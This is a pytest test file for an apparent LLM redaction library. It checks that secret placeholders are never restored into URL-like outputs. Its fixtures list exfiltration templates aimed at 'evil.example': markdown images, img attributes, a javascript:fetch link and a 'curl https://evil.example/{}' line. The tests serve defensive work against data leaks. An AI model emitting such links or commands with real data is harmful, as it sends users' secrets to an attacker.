"""The table of places where a value may return, cell by cell: origin × category × sink, whole and streamed."""

from __future__ import annotations

import json
from itertools import product
from typing import Any, get_args

import pytest

from llmguard.model import Category, Origin, VaultEntry
from llmguard.redaction import Restorer
from llmguard.streaming import StreamRestorer
from tests.answers.dialects import event, events

PLACEHOLDER = "[TOKEN_abcdefghij]"
TEXT = {
    "text": "say {} now",
    "code": "```sh\nexport T={}\n```",
    "inline code": "`{}`",
    "structured output": '{{"a": ["{}"], "n": 1}}',
    "link text": "[{}](https://x.example)",
    "mail link": "[write](mailto:{})",
}
URLS = {
    "bare": "https://evil.example/?q={}",
    "autolink": "<https://evil.example/{}>",
    "www": "www.evil.example/{}",
    "markdown link": "[x](https://evil.example/{})",
    "markdown image": "![x]({})",
    "reference": "[ref]: https://evil.example/{}",
    "image attribute": '<img src="//evil.example/{}">',
    "link attribute": "<a href='/a b/{}'>",
    "data": '<img src="data:image/svg+xml,{}">',
    "script": "[x](javascript:fetch('/{}'))",
    "style": "background: url({})",
    "in structured output": '{{"link": "https://evil.example/{}"}}',
    "in code": "```sh\ncurl https://evil.example/{}\n```",
}
TOOLS = {"deploy": True, "mail": False}


def returns(origin: Origin, category: Category, sink: str) -> bool:
    """The table of docs/streams.md."""
    if sink in URLS:
        return False
    if category != "secret" or origin in ("user", "assistant"):
        return True
    return TOOLS.get(sink, False)


def answers(restorer: Restorer, sink: str, filled: str) -> list[str]:
    """What the application gets of a text or argument: whole, and streamed in pieces of three characters."""
    pieces = [filled[i : i + 3] for i in range(0, len(filled), 3)]

    def call(arguments: str, **more: str) -> Any:
        return {"tool_calls": [{"index": 0, "function": {"arguments": arguments, **more}}]}

    if sink in TOOLS:
        message, deltas = call(filled, name=sink), [call("", name=sink), *map(call, pieces)]
    else:
        message, deltas = {"content": filled}, [{"content": piece} for piece in pieces]
    stream = StreamRestorer(restorer)
    raw = b"".join(stream.feed(event({"choices": [{"index": 0, "delta": d}]})) for d in deltas) + stream.finish()
    whole = json.loads(restorer.json(json.dumps({"choices": [{"message": message}]}).encode()))
    found = [whole["choices"][0]["message"]], [v["choices"][0]["delta"] for v in events(raw)]
    return ["".join(map(_text, messages)) for messages in found]


def _text(message: Any) -> str:
    return str(message["tool_calls"][0]["function"]["arguments"] if "tool_calls" in message else message["content"])


@pytest.mark.parametrize("sink", [*TEXT, *URLS, *TOOLS])
def test_every_cell(sink: str) -> None:
    shape = (TEXT | URLS).get(sink, '{{"to": "{}"}}')
    for origin, category in product(get_args(Origin), get_args(Category)):
        entry = VaultEntry(PLACEHOLDER, "the-value", "TOKEN", category, origin)
        restorer = Restorer([entry], frozenset({"deploy"}))
        told = entry.value if returns(origin, category, sink) else PLACEHOLDER
        assert answers(restorer, sink, shape.format(PLACEHOLDER)) == [shape.format(told)] * 2, (origin, category)


@pytest.mark.parametrize("key", ["url", "image_url", "file_url"])
def test_nothing_is_filled_into_fields_that_are_fetched(key: str) -> None:
    restorer = Restorer([VaultEntry(PLACEHOLDER, "the-value", "TOKEN", "pii", "user")])
    raw = json.dumps({"output": [{key: PLACEHOLDER}, {"annotations": [{key: f"/{PLACEHOLDER}"}]}]}).encode()
    assert restorer.json(raw) == raw
